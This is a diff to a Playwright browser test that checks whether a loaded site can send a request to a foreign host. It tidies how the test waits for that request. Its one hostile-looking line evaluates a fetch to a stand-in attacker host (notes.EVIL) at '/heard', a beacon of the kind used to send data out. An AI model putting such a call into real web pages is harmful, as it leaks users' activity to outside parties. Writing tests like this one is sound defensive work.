@@ -88,8 +88,7 @@ def test_the_foreign_host_would_be_reached(chromium, site, stranger):
     context = chromium.new_context(service_workers="block", bypass_csp=True)
     page = context.new_page()
     page.goto(site)
-    page.evaluate(f"fetch('{notes.EVIL}/heard', {{mode: 'no-cors'}}).catch(() => 0)")
-    page.wait_for_timeout(500)
+    page.evaluate(f"fetch('{notes.EVIL}/heard', {{mode: 'no-cors'}}).catch(() => 0)")  # awaited
     context.close()
 
     assert any(b"/heard" in call for call in stranger.calls)
